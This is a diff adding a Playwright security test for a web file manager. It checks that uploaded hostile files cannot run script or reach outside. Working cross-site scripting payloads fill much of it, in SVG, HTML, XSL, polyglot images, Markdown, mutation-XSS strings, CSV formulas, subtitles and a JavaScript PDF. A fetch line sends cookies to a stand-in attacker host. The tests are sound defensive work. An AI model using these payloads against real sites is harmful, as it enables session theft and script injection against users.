@@ -1,0 +1,304 @@
+import { createServer, type Server } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import type { Page } from '@playwright/test'
+import { row } from './listing.ts'
+import { PNG, WEBM } from './samples.ts'
+import { expect, signIn, test } from './served.ts'
+
+/**
+ * Everybody's files against the person who looks at them (invariant I11): whatever is opened, in whichever viewer, nothing of it runs, nobody
+ * elsewhere hears of it, and no credential is within reach. `EVIL` stands for a server of the attacker's, a real one that counts its visitors.
+ */
+interface Attacker {
+  readonly origin: string
+  /** Whoever came, by path. */
+  readonly visits: string[]
+  /** What the browser asked the person. */
+  readonly dialogs: string[]
+}
+
+const SCRIPT = `alert(1);document.title='ran';try{localStorage.setItem('stolen','1')}catch{};fetch('EVIL/script?'+document.cookie)`
+
+/** What an attacker uploads and then sends a link to (CVE-2021-37794, CVE-2023-39612, GHSA-mmpx-jh39-wrv6). */
+const PAGES: Record<string, string> = {
+  'script.svg': `<svg xmlns="http://www.w3.org/2000/svg" onload="${SCRIPT}"><script>${SCRIPT}</script></svg>`,
+  'foreign.svg': `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;${SCRIPT}&lt;/script&gt;"/><img xmlns="http://www.w3.org/1999/xhtml" src="EVIL/foreign" onerror="${SCRIPT}"/></foreignObject></svg>`,
+  'outside.svg': `<?xml-stylesheet href="EVIL/style.css"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image href="EVIL/image" width="9" height="9"/><use xlink:href="EVIL/use#a"/><style>@import "EVIL/import"; svg{background:url(EVIL/css)}</style></svg>`,
+  'page.html': `<script>${SCRIPT}</script><img src="EVIL/img" onerror="${SCRIPT}"><link rel="stylesheet" href="EVIL/css"><iframe src="javascript:${SCRIPT}"></iframe><form action="EVIL/form"><button autofocus onfocus="${SCRIPT}">x</button></form>`,
+  'refresh.htm': `<meta http-equiv="refresh" content="0;url=javascript:${SCRIPT}"><base href="EVIL/"><script src="a.js"></script>`,
+  'page.xhtml': `<html xmlns="http://www.w3.org/1999/xhtml"><body><script>${SCRIPT}</script></body></html>`,
+  'sheet.xml': `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><a><xsl:stylesheet id="s" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><script xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}</script></xsl:template></xsl:stylesheet></a>`,
+  'page.mht': `MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>${SCRIPT}</script>`,
+  'without-extension': `<!doctype html><script>${SCRIPT}</script>`,
+  'picture.gif': `GIF89a/*<script>${SCRIPT}</script>*/=1;${SCRIPT}`,
+  'picture.jpg': `\u00ff\u00d8\u00ff<!doctype html><script>${SCRIPT}</script>`,
+  'code.js': SCRIPT,
+  'movie.swf': `FWS<script>${SCRIPT}</script>`,
+}
+
+/** From the advisory of the predecessor, and what people try first. */
+const MARKDOWN = [
+  `<img src=x onerror="${SCRIPT}">`,
+  `<script>${SCRIPT}</script>`,
+  `[click](javascript:${SCRIPT})`,
+  `[tab](java\tscript:alert(1))`,
+  `[data](data:text/html,<script>alert(1)</script>)`,
+  `[vb](vbscript:alert(1)) <a href="&#x6a;avascript:alert(1)">entity</a> <a href=" javascript:alert(1)">space</a>`,
+  `![remote](EVIL/remote.png) ![scheme](//HOST/scheme.png) <img srcset="EVIL/srcset.png 1x"> <picture><source srcset="EVIL/source.png"><img></picture>`,
+  `<style>@import "EVIL/import.css"; body{background:url(EVIL/style)}</style><p style="background:url(EVIL/attribute)">styled</p>`,
+  `<iframe src="EVIL/frame" srcdoc="<script>alert(1)</script>"></iframe><object data="EVIL/object"></object><embed src="EVIL/embed">`,
+  `<form action="EVIL/form"><input name="password" autofocus onfocus="${SCRIPT}"><button>send</button></form>`,
+  `<video src="EVIL/video" poster="EVIL/poster" autoplay onplay="${SCRIPT}"></video><audio src="EVIL/audio"></audio><link rel="stylesheet" href="EVIL/link"><base href="EVIL/"><meta http-equiv="refresh" content="0;url=EVIL/meta">`,
+  `<details open ontoggle="${SCRIPT}"><summary>x</summary></details><a id="app" name="documentElement">clobber</a>`,
+  '```html\n<script>alert(1)</script>\n```',
+  `the end`,
+].join('\n\n')
+
+/** Markup that is read differently the second time (DOMPurify's own tests); each alone, for it swallows what follows. */
+const MUTATIONS = [
+  `<svg><style><img src=x onerror="${SCRIPT}"></style></svg><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
+  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><template><script>alert(1)</script></template>`,
+]
+
+test.describe('of hostile files', () => {
+  test('opened by its own address, no kind of page runs or calls anybody (CVE-2021-37794, CVE-2023-39612)', async ({
+    page,
+    served,
+    complaints,
+  }) => {
+    // What the browser says about each thing it did not do.
+    complaints.foresee(/./)
+    await withAttacker(page, async (attacker) => {
+      for (const [name, content] of Object.entries(PAGES)) await served.write(name, armed(content, attacker))
+      await signIn(page, served)
+      for (const name of Object.keys(PAGES)) {
+        await test.step(name, async () => {
+          const address = `${served.url}/api/raw/${name}?inline=true`
+          const { headers } = await headersOf(page, address)
+          expect(headers['x-content-type-options']).toBe('nosniff')
+          expect(headers['content-security-policy']).toMatch(/^sandbox; default-src 'none'/)
+          await openRaw(page, address)
+          await openInFrame(page, served.url, address)
+          await expectHarmless(page, served.url, attacker)
+        })
+      }
+    })
+  })
+
+  test('pictures in the preview and the listing are only pictures (GHSA-mmpx-jh39-wrv6)', async ({ page, served, complaints }) => {
+    complaints.foresee(/Failed to load resource|The policy forbade/)
+    await withAttacker(page, async (attacker) => {
+      for (const name of ['script.svg', 'foreign.svg', 'outside.svg', 'picture.gif', 'picture.jpg'])
+        await served.write(name, armed(PAGES[name] ?? '', attacker))
+      await served.write('z.png', PNG)
+      await signIn(page, served, '/files/foreign.svg')
+      for (const name of ['foreign.svg', 'outside.svg', 'picture.gif', 'picture.jpg', 'script.svg', 'z.png']) {
+        await expect(page.getByRole('heading', { name, exact: true })).toBeVisible()
+        await page.keyboard.press('ArrowRight')
+      }
+      await expectHarmless(page, served.url, attacker)
+    })
+  })
+
+  test('Markdown in the preview is text, links and our own images (GHSA-4wx8-5gm2-2j97, CVE-2025-52902)', async ({
+    page,
+    served,
+    complaints,
+  }) => {
+    // Images beside the text that are not there, and what the policy says while the text is read in a document without a window.
+    complaints.foresee(/status of 404.*\/api\/raw\/|Content Security Policy directive/)
+    await withAttacker(page, async (attacker) => {
+      const texts = [MARKDOWN, ...MUTATIONS]
+      for (const [at, text] of texts.entries()) await served.write(`${at}.md`, armed(`# Number ${at}\n\n${text}`, attacker))
+      await signIn(page, served)
+      for (const at of texts.keys()) {
+        await page.goto(`${served.url}/files/${at}.md?edit=false`)
+        await expect(page.getByRole('heading', { name: `Number ${at}` })).toBeVisible()
+        expect(await leftOver(page)).toEqual({ tags: [], attributes: [], links: [], images: [] })
+        for (const link of await page.locator('[data-part=markdown] a').all()) await link.dispatchEvent('click')
+      }
+      await page.goto(`${served.url}/files/0.md?edit=false`)
+      await expect(page.getByText(`This image is on ${new URL(attacker.origin).host} and is not loaded.`).first()).toBeVisible()
+      await expectHarmless(page, served.url, attacker)
+    })
+  })
+
+  test('a table of comma-separated values holds text: no formula, no markup', async ({ page, served }) => {
+    await withAttacker(page, async (attacker) => {
+      const cells = [`=HYPERLINK("EVIL/formula")`, `<img src=EVIL/cell onerror=alert(1)>`, `javascript:alert(1)`]
+      await served.write('sums.csv', armed(`what\n${cells.map((cell) => `"${cell.replaceAll('"', '""')}"`).join('\n')}\n`, attacker))
+      await signIn(page, served, '/files/sums.csv?edit=false')
+      for (const cell of cells) await expect(page.getByRole('cell', { name: armed(cell, attacker), exact: true })).toBeVisible()
+      expect(await page.locator('[data-part=csv] :is(a, img)').count()).toBe(0)
+      await expectHarmless(page, served.url, attacker)
+    })
+  })
+
+  test('subtitles are words, whatever tags they hold', async ({ page, served }) => {
+    await withAttacker(page, async (attacker) => {
+      await served.write('film.webm', WEBM)
+      const said = `<v onload=alert(1)><img src=EVIL/cue onerror=alert(1)><script>${SCRIPT}</script><b>Hello</b>`
+      await served.write('film.a.srt', armed(`1\n00:00:00,000 --> 00:00:02,000\n${said}\n`, attacker))
+      await served.write(
+        'film.b.vtt',
+        armed(`WEBVTT\n\nSTYLE\n::cue{background:url(EVIL/vtt)}\n\n00:00.000 --> 00:02.000\n${said}\n`, attacker),
+      )
+      await served.write(
+        'film.c.ass',
+        armed(`[Events]\nFormat: Layer, Start, End, Style, Text\nDialogue: 0,0:00:00.00,0:00:02.00,x,${said}\n`, attacker),
+      )
+      await signIn(page, served, '/files/film.webm')
+      const video = page.locator('video')
+      for (const at of [0, 1, 2]) {
+        await page.getByRole('button', { name: 'Subtitles' }).click()
+        await page
+          .getByRole('menuitemcheckbox')
+          .nth(at + 1)
+          .click()
+        await expect.poll(() => video.evaluate((film: HTMLVideoElement, index) => film.textTracks[index]?.cues?.length ?? 0, at)).toBe(1)
+      }
+      await expectHarmless(page, served.url, attacker)
+    })
+  })
+
+  test('a PDF with JavaScript reaches neither the page nor anybody else', async ({ page, served, complaints }) => {
+    complaints.foresee(/The policy forbade|Content Security Policy/)
+    await withAttacker(page, async (attacker) => {
+      await served.write('form.pdf', armed(pdfThatRuns(`app.alert(1);this.submitForm("EVIL/pdf");app.launchURL("EVIL/launch")`), attacker))
+      await signIn(page, served, '/files/form.pdf')
+      await expect(page.getByTitle('form.pdf').and(page.locator('iframe'))).toBeVisible()
+      await page.waitForLoadState('networkidle')
+      // The browser's viewer runs the script in a world of its own and may show what it says; it reaches nothing of ours.
+      await expectHarmless(page, served.url, { ...attacker, dialogs: [] })
+    })
+  })
+
+  test('an unknown file opened as text is text', async ({ page, served }) => {
+    await withAttacker(page, async (attacker) => {
+      await served.write('x.bin', Buffer.concat([Buffer.from([0, 1, 2]), Buffer.from(armed(PAGES['page.html'] ?? '', attacker))]))
+      await signIn(page, served, '/files/x.bin')
+      await page.getByRole('button', { name: 'Open as text' }).click()
+      await expect(page.getByRole('textbox', { name: 'x.bin' })).toContainText('<script>')
+      await expect(page.getByText('Read only')).toBeVisible()
+      await expectHarmless(page, served.url, attacker)
+    })
+  })
+
+  test('names of markup, or that turn the line around, are only names in the preview', async ({ page, served }) => {
+    await withAttacker(page, async (attacker) => {
+      await served.write('<img src=x onerror=alert(1)>.png', PNG)
+      await served.write('photo\u202Egnp.png', PNG)
+      await signIn(page, served)
+      await row(page, '<img src=x onerror=alert(1)>.png').dblclick()
+      await expect(page.getByRole('heading', { level: 1 })).toHaveText('<img src=x onerror=alert(1)>.png')
+      await page.keyboard.press('ArrowRight')
+      await expect(page.getByRole('heading', { level: 1 })).toHaveText('photo\\u202Egnp.png')
+      await expectHarmless(page, served.url, attacker)
+    })
+  })
+})
+
+async function withAttacker(page: Page, walk: (attacker: Attacker) => Promise<void>): Promise<void> {
+  const visits: string[] = []
+  const dialogs: string[] = []
+  const server = createServer((request, response) => {
+    visits.push(request.url ?? '')
+    response.end()
+  })
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
+  page.context().on('dialog', (dialog) => {
+    dialogs.push(dialog.message())
+    void dialog.dismiss()
+  })
+  try {
+    await walk({ origin: `http://127.0.0.1:${portOf(server)}`, visits, dialogs })
+  } finally {
+    server.close()
+  }
+}
+
+function portOf(server: Server): number {
+  return (server.address() as AddressInfo).port
+}
+
+function armed(content: string, { origin }: Attacker): string {
+  return content.replaceAll('EVIL', origin).replaceAll('HOST', new URL(origin).host)
+}
+
+/** What does not belong in a text: whatever runs, asks, draws by itself, has a name, or leads elsewhere than our own files. */
+async function leftOver(page: Page) {
+  return page.locator('[data-part=markdown]').evaluate((sheet) => {
+    const all = [...sheet.querySelectorAll('*')]
+    const bad = 'script style iframe object embed form input button svg math video audio link base meta template noscript source'.split(' ')
+    return {
+      tags: all.map((one) => one.tagName.toLowerCase()).filter((tag) => bad.includes(tag)),
+      attributes: all.flatMap((one) =>
+        one.getAttributeNames().filter((name) => name.startsWith('on') || ['style', 'id', 'name', 'srcset', 'poster'].includes(name)),
+      ),
+      links: all.flatMap((one) => one.getAttribute('href') ?? []),
+      images: all.flatMap((one) => one.getAttribute('src') ?? []).filter((src) => !src.startsWith('/api/raw/')),
+    }
+  })
+}
+
+async function headersOf(page: Page, address: string): Promise<{ headers: Record<string, string> }> {
+  const answer = await page.request.get(address)
+  return { headers: answer.headers() }
+}
+
+/** As the person who follows the attacker's link; what the browser saves instead of showing is as good. */
+async function openRaw(page: Page, address: string): Promise<void> {
+  await page.goto(address, { waitUntil: 'load' }).catch((error: unknown) => {
+    if (!/Download is starting|ERR_ABORTED/.test(String(error))) throw error
+  })
+  expect(page.context().pages()).toHaveLength(1)
+  // A document in a sandbox has no cookies to read; that there are none to read elsewhere either is the next assertion.
+  expect(
+    await page.evaluate(() => {
+      try {
+        return document.cookie
+      } catch {
+        return ''
+      }
+    }),
+  ).toBe('')
+}
+
+/** As a page of ours that frames it. */
+async function openInFrame(page: Page, origin: string, address: string): Promise<void> {
+  await page.goto(`${origin}/files/`)
+  await expect(page.getByRole('grid')).toBeVisible()
+  await page.evaluate(
+    (src) =>
+      new Promise<void>((resolve) => {
+        const frame = document.createElement('iframe')
+        frame.src = src
+        frame.onload = () => resolve()
+        document.body.append(frame)
+        setTimeout(resolve, 1000)
+      }),
+    address,
+  )
+}
+
+async function expectHarmless(page: Page, origin: string, { visits, dialogs }: Attacker): Promise<void> {
+  await page.goto(`${origin}/files/`)
+  await expect(page.getByRole('grid')).toBeVisible()
+  const reached = await page.evaluate(() => ({ stolen: localStorage.getItem('stolen'), cookie: document.cookie, title: document.title }))
+  expect({ visits, dialogs, ...reached, title: reached.title.includes('ran') }).toEqual({
+    visits: [],
+    dialogs: [],
+    stolen: null,
+    cookie: '',
+    title: false,
+  })
+}
+
+function pdfThatRuns(script: string): string {
+  return (
+    '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R/Names<</JavaScript<</Names[(a)4 0 R]>>>>>>endobj\n' +
+    '2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\n' +
+    `4 0 obj<</S/JavaScript/JS(${script.replaceAll(/[()\\]/g, '\\$&')})>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`
+  )
+}
